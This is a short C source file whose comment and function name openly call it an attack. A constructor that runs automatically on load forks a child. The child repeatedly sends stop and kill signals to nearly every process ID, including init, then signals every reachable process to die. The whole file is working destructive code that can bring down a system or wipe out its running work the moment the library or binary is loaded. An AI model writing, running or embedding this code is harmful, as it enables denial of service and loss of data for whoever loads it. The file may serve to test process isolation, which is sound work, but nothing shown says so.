/* Ends everybody that it may: its parent, the first process, all of them. */

#include <signal.h>
#include <unistd.h>

__attribute__((constructor)) static void
attack(void)
{
    pid_t own = getpid();

    if (fork() != 0)
        return;
    for (int turn = 0; turn < 20; turn++) {
        for (pid_t pid = 1; pid < 5000; pid++)
            if (pid != own && pid != getpid())
                (void)kill(pid, turn % 2 ? SIGKILL : SIGSTOP);
        (void)kill(-1, SIGKILL);
    }
    _exit(0);
}
